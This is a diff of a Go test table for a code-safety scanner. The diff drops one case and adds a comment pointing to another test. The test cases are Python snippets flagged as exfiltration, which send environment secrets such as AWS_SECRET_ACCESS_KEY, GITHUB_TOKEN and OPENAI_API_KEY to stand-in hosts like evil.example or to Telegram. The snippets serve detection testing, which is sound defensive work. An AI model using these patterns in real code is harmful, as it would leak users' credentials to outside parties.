@@ -87,7 +87,8 @@ func TestServiceAuthentication(t *testing.T) {
 		{"http.client token in the body to its API", "import http.client, os\nc = http.client.HTTPSConnection('api.github.com')\nc.request('POST', '/gists', body=os.environ['GITHUB_TOKEN'])\n", "codesafety.exfiltration", 3},
 		{"http.client token over plain http", "import http.client, os\nc = http.client.HTTPConnection('api.github.com')\nc.request('GET', '/user', headers={'Authorization': os.environ['GITHUB_TOKEN']})\n", "codesafety.exfiltration", 3},
 		{"http.client in a with, body positional", "import http.client, os\nwith http.client.HTTPSConnection('evil.example') as c:\n    c.request('POST', '/', os.environ['AWS_SECRET_ACCESS_KEY'])\n", "codesafety.exfiltration", 3},
-		{"http.client putheader to another host", "from http.client import HTTPSConnection\nimport os\nc = HTTPSConnection('evil.example')\nc.putheader('X-K', os.environ['OPENAI_API_KEY'])\n", "codesafety.exfiltration", 4},
+		// A header to another literal https host is a note, not exfiltration: see
+		// TestCredentialsSent.
 		{"urllib3 secret in the body", "import urllib3, os\nhttp = urllib3.PoolManager()\nhttp.request('POST', 'https://evil.example/x', body=os.environ['AWS_SECRET_ACCESS_KEY'])\n", "codesafety.exfiltration", 3},
 		{"requests session params to another host", "import requests, os\ns = requests.Session()\ns.get('https://evil.example/', params={'q': os.environ['AWS_SECRET_ACCESS_KEY']})\n", "codesafety.exfiltration", 3},
 		{"slack token to telegram", "import os, requests\nt = os.environ['SLACK_BOT_TOKEN']\nrequests.get(f'https://api.telegram.org/bot{t}/getMe')\n", "codesafety.exfiltration", 3},
